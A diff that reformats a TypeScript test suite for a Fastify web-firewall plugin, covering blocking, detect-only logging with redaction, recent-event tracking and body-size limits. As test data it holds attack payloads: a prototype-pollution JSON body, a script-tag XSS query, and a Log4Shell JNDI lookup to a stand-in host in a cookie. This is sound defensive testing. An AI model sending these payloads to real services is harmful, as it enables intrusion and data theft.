@@ -6,9 +6,15 @@ let app: FastifyInstance | undefined;
 
 async function build(options: FirewallPluginOptions = {}): Promise<FastifyInstance> {
   const lines: string[] = [];
-  const instance = Fastify({ logger: { level: 'info', stream: { write: (line: string) => lines.push(line) } } });
+  const instance = Fastify({
+    logger: { level: 'info', stream: { write: (line: string) => lines.push(line) } },
+  });
   instance.decorate('logLines', lines);
-  await instance.register(firewallPlugin, { now: () => new Date('2024-03-12T14:00:00Z'), recentEvents: 2, ...options });
+  await instance.register(firewallPlugin, {
+    now: () => new Date('2024-03-12T14:00:00Z'),
+    recentEvents: 2,
+    ...options,
+  });
   instance.post('/api/v1/orders', async (request) => ({ received: request.body }));
   instance.get('/api/v1/assets', async (request) => ({ query: request.query }));
   await instance.ready();
@@ -40,7 +46,12 @@ describe('firewallPlugin', () => {
     const ok = await server.inject({ method: 'POST', url: '/api/v1/orders', payload: order });
     expect(ok.statusCode).toBe(200);
     expect(ok.json()).toEqual({ received: order });
-    const bad = await server.inject({ method: 'POST', url: '/api/v1/orders', headers: { 'content-type': 'application/json' }, payload: '{"symbol":"AAPL","__proto__":{"admin":true}}' });
+    const bad = await server.inject({
+      method: 'POST',
+      url: '/api/v1/orders',
+      headers: { 'content-type': 'application/json' },
+      payload: '{"symbol":"AAPL","__proto__":{"admin":true}}',
+    });
     expect(bad.statusCode).toBe(403);
     expect(bad.json<{ rules: string[] }>().rules).toContain('prototype.pollution');
     expect(server.firewall.counters.inspected).toBe(2);
@@ -48,7 +59,11 @@ describe('firewallPlugin', () => {
 
   it('only logs, redacted, in detect-only mode', async () => {
     const server = await build({ mode: 'detect' });
-    const response = await server.inject({ method: 'GET', url: '/api/v1/assets?q=<script>alert(1)</script>', headers: { cookie: 'pulse_session=${jndi:ldap://x/secret-token}' } });
+    const response = await server.inject({
+      method: 'GET',
+      url: '/api/v1/assets?q=<script>alert(1)</script>',
+      headers: { cookie: 'pulse_session=${jndi:ldap://x/secret-token}' },
+    });
     expect(response.statusCode).toBe(200);
     expect(server.firewall.counters).toMatchObject({ inspected: 1, blocked: 0, detected: 1 });
     const log = (server as unknown as { logLines: string[] }).logLines.join('\n');
@@ -65,12 +80,21 @@ describe('firewallPlugin', () => {
     const events = server.firewall.recent();
     expect(events).toHaveLength(2);
     expect(events.map((e) => e.matches[0]?.family)).toEqual(['lfi', 'rce']);
-    expect(events[1]).toMatchObject({ path: '/api/v1/assets', action: 'block', at: '2024-03-12T14:00:00.000Z' });
+    expect(events[1]).toMatchObject({
+      path: '/api/v1/assets',
+      action: 'block',
+      at: '2024-03-12T14:00:00.000Z',
+    });
   });
 
   it('answers 413 when the body exceeds the route limit', async () => {
     const server = await build();
-    const response = await server.inject({ method: 'POST', url: '/api/v1/orders', headers: { 'content-type': 'application/json' }, payload: JSON.stringify({ note: 'x'.repeat(1_100_000) }) });
+    const response = await server.inject({
+      method: 'POST',
+      url: '/api/v1/orders',
+      headers: { 'content-type': 'application/json' },
+      payload: JSON.stringify({ note: 'x'.repeat(1_100_000) }),
+    });
     expect(response.statusCode).toBe(413);
   });
 });
